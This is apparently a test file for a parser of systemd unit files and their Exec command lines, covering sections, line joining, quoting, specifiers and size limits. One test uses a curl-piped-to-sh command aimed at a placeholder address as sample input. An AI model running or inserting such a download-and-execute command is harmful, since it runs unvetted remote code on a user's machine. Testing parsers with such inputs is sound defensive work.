import { describe, expect, test } from 'bun:test';
import { parseExec, unitWords } from './systemd-exec.ts';
import { parseUnit } from './systemd-unit.ts';

const read = (text: string) =>
  parseUnit(Buffer.from(text, 'latin1')).map(({ section, key, value, line }) => [section, key, value, line]);
const exec = (value: string, unit = 'a.service') => parseExec(value, { unit }).map(({ command }) => command);

describe('a unit file', () => {
  test('has sections, keys and values with their lines', () => {
    expect(
      read('[Unit]\nDescription=A = b\n\n# c\n; d\n[Service]\nExecStart = /bin/x  -y \nUser=\n'),
    ).toEqual([
      ['Unit', 'Description', 'A = b', 2],
      ['Service', 'ExecStart', '/bin/x  -y', 7],
      ['Service', 'User', '', 8],
    ]);
  });

  test('joins lines that end with a backslash, comments between them left out', () => {
    expect(read('[Service]\nExecStart=/bin/sh -c "a \\\n# comment\n  b" \\\n  c\nType=simple')).toEqual([
      ['Service', 'ExecStart', '/bin/sh -c "a  b"  c', 2],
      ['Service', 'Type', 'simple', 6],
    ]);
  });

  test('that ends in the middle is read to its end, with CR LF too', () => {
    expect(read('[Service]\r\nExecStart=/bin/x \\')).toEqual([['Service', 'ExecStart', '/bin/x', 2]]);
  });

  test('of other text has nothing', () => {
    expect(read('hello\n[open\n=x\n\x7fELF\x00\x01=\n')).toEqual([]);
  });

  test('without end is bounded', () => {
    expect(read('A=b\n'.repeat(100_000)).length).toBeLessThanOrEqual(20_000);
    expect(read(`A=${'x\\\n'.repeat(4 << 20)}`)).toHaveLength(1);
  });
});

describe('a command line of a unit', () => {
  test('is split at blanks, by quotes and C escapes', () => {
    expect(unitWords('/bin/a "b c" \'d\' e\\x20f g\\sh "\\"q\\""')).toEqual([
      '/bin/a',
      'b c',
      'd',
      'e f',
      'g h',
      '"q"',
    ]);
  });

  test('loses its prefixes; a second name of the program is left out', () => {
    expect(parseExec('-+/bin/x y', { unit: 'a.service' })).toEqual([
      { program: '/bin/x', command: '/bin/x y', privileged: true, shell: false },
    ]);
    expect(exec('@/bin/x kworker y')).toEqual(['/bin/x y']);
  });

  test('knows what the name of the unit says', () => {
    expect(exec('/bin/x %i %n %% %h', 'a@b c.service')).toEqual(["/bin/x 'b c' 'a@b c.service' % %h"]);
  });

  test('keeps what a shell gets in one word', () => {
    expect(exec('/bin/sh -c "curl http://192.0.2.1/a | sh"')).toEqual([
      "/bin/sh -c 'curl http://192.0.2.1/a | sh'",
    ]);
  });

  test('holds several commands apart by a semicolon of its own', () => {
    expect(exec('/bin/a ; /bin/b "x;y"')).toEqual(['/bin/a', "/bin/b 'x;y'"]);
  });

  test('of nothing is none', () => {
    expect(exec('')).toEqual([]);
    expect(exec('-')).toEqual([]);
    expect(exec('"'.repeat(1 << 20))).toEqual([]);
  });
});
